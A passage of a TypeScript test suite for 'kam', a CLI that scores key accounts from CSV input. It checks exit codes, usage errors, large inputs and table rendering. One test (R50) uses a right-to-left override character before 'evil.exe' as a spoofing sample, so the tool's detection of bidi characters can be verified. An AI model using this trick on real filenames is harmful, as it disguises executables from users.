    file('r47-half.json', '{"weights":{"volume":0.5,"potential":0.5,"ltv":0.5,"fit":0.5,"strategic":0.5}}');
    file('r47-even.json', '{"weights":{"volume":0.2,"potential":0.2,"ltv":0.2,"fit":0.2,"strategic":0.2}}');
    const f = file('fixtures-r47.csv', 'account_id,account_name,revenue,potential_revenue,product_fit\nA,Alpha,1,5,2\nB,Beta,2,3,4\n');
    const half = await kam(['score', f, '--config', 'r47-half.json', '--format', 'csv']);
    const even = await kam(['score', f, '--config', 'r47-even.json', '--format', 'csv']);
    expect(half.code).toBe(0);
    expect(half.stdout).toBe(even.stdout);
  });

  it('R48: bad usage (--top -3, --top 0, an unknown flag or command, no arguments) is a commander error plus a usage hint (exit 2)', async () => {
    const f = file('r48.csv', 'account_id,account_name,revenue\nA,Alpha,1\n');
    const hint = '(run with --help for usage)\n';
    expect(await kam(['score', f, '--top', '-3'])).toEqual({
      code: 2,
      stdout: '',
      stderr: `kam: option '--top <n>' argument '-3' is invalid. --top takes a whole number >= 1.\n${hint}`,
    });
    expect(await kam(['score', f, '--top', '0'])).toEqual({
      code: 2,
      stdout: '',
      stderr: `kam: option '--top <n>' argument '0' is invalid. --top takes a whole number >= 1.\n${hint}`,
    });
    expect(await kam(['score', f, '--bogus'])).toEqual({ code: 2, stdout: '', stderr: `kam: unknown option '--bogus'\n${hint}` });
    expect(await kam(['frobnicate'])).toEqual({ code: 2, stdout: '', stderr: `kam: unknown command 'frobnicate'\n${hint}` });
    expect(await kam(['score'])).toEqual({ code: 2, stdout: '', stderr: `kam: missing required argument 'file'\n${hint}` });
    const none = await kam([]);
    expect({ code: none.code, stdout: none.stdout, first: none.stderr.split('\n')[0] }).toEqual({
      code: 2,
      stdout: '',
      first: 'Usage: kam [options] [command]',
    });
  });

  it('R49: a 20,000-row input scores in-process with every row accounted for (exit 0; the 200,000-row run is in large.test.ts)', async () => {
    const rows = Array.from(
      { length: 20_000 },
      (_, i) => `K${String(i).padStart(6, '0')},Name ${i},${(i * 7919) % 100_000},${i % 5 === 0 ? '' : `${(i % 90) + 5}%`}`,
    ).join('\n');
    const f = file('r49.csv', `account_id,account_name,revenue,gross_margin\n${rows}\n`);
    const r = await kam(['score', f, '--format', 'csv']);
    expect({ code: r.code, stderr: r.stderr }).toEqual({
      code: 0,
      stderr: lines('kam: warning: no column feeds potential, fit, strategic: scores use volume and ltv'),
    });
    const out = r.stdout.trimEnd().split('\n');
    expect(out).toHaveLength(20_001);
    expect(new Set(out.slice(1).map((l) => l.split(',')[0])).size).toBe(20_000);
    expect(out.slice(1).map((l) => Number(l.split(',')[4]))).toEqual(Array.from({ length: 20_000 }, (_, i) => i + 1));
  });

  it('R49: the table view renders long tables in slices, byte-identical to one cli-table3 table; 6,000 accounts as a table (exit 0)', async () => {
    const color = new Chalk({ level: 0 });
    const rows = Array.from({ length: 260 }, (_, i) => [
      String(i + 1),
      i % 50 === 0 ? `Multi\nline ${i}` : `Name ${'x'.repeat(i % 30)} 名前`,
      (i * 1.5).toFixed(2),
      i % 7 === 0 ? '' : 'Key',
    ]);
    const spec = { head: ['#', 'Account', 'Score', 'Tier'], rows, numeric: new Set([0, 2]), flexible: [{ index: 1, min: 12 }], width: 40, color };
    // One table, as cli-table3 draws it, at the widths renderTable settles on for 40 columns (Account cut to 14).
    const widths = [3, 14, 6, 4];
    const one = new Table({
      head: spec.head,
      style: { head: [], border: [], 'padding-left': 1, 'padding-right': 1, compact: true },
      chars: { mid: '', 'left-mid': '', 'mid-mid': '', 'right-mid': '' },
      colWidths: widths.map((w) => w + 2),
      colAligns: ['right', 'left', 'right', 'left'],
      wordWrap: false,
    });
    for (const r of rows)
      one.push(
        r.map((cell, c) =>
          cell
            .split('\n')
            .map((l) => truncate(l, widths[c]!))
            .join('\n'),
        ),
      );
    expect(renderTable(spec)).toBe(`${one.toString()}\n`);

    const many = Array.from({ length: 6000 }, (_, i) => `K${String(i).padStart(6, '0')},Name ${i},${i + 1}`).join('\n');
    const f = file('r49-table.csv', `account_id,account_name,revenue\n${many}\n`);
    const r = await kam(['score', f, '--format', 'table']);
    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: lines(REV_ONLY) });
    const out = r.stdout.split('\n');
    // First line, top rule, header, 6,000 rows, bottom rule, summary, and the final newline.
    expect(out).toHaveLength(6006);
    expect(out[3]).toMatch(/^│ +1 │ Name 5999 +│ 99\.99 │ Unrated │/);
    expect(out[6002]).toMatch(/^│ 6000 │ Name 0 +│ {2}0\.01 │ Unrated │/);
    expect(out.at(-2)).toBe('Key 0 · Develop 0 · Maintain 0 · Monitor 0 · Unrated 6000 · rejected 0');
    expect(out.at(-3)!.startsWith('└')).toBe(true);
  });

  it('R50: bidi and zero-width characters are kept, and counted on stderr (score) and in kam validate (exit 0)', async () => {
    const f = file('r50.csv', 'account_id,account_name,revenue\nA,\u202Eevil.exe,1\nB,Acme\u200B,2\nC,Plain,3\n');
    const r = await kam(['score', f, '--format', 'csv']);
    expect(r).toEqual({
      code: 0,
      stderr: lines('kam: 2 cells hold bidi or zero-width characters (kept as they are)', REV_ONLY),
      stdout: lines(H3, `C,Plain,3,${revOnly(1, '83.33')}`, `B,Acme\u200B,2,${revOnly(2, '50.00')}`, `A,\u202Eevil.exe,1,${revOnly(3, '16.67')}`),
    });
    const v = await kam(['validate', f]);
    expect(v.code).toBe(0);
    expect(v.stdout.split('\n')).toContain('cells with bidi or zero-width characters: 2');
    expect(await kam(['score', f, '--sanitize-unicode'])).toEqual({
      code: 2,
      stdout: '',
      stderr: "kam: unknown option '--sanitize-unicode'\n(run with --help for usage)\n",
    });
  });
});

describe('reliability: the checklist is complete', () => {
  it('every row 1..50 of RELIABILITY.md has a test named R<n>: in test/reliability', () => {
    const here = new URL('.', import.meta.url);
    const names = readdirSync(here)
      .filter((n) => n.endsWith('.test.ts'))
      .flatMap((n) => [...readFileSync(new URL(n, here), 'utf8').matchAll(/\bit\(\s*['"`]R(\d+):/g)].map((m) => Number(m[1])));
    const missing = Array.from({ length: 50 }, (_, i) => i + 1).filter((n) => !names.includes(n));
    expect(missing).toEqual([]);
    expect(existsSync(new URL('large.test.ts', here))).toBe(true);
  });
});
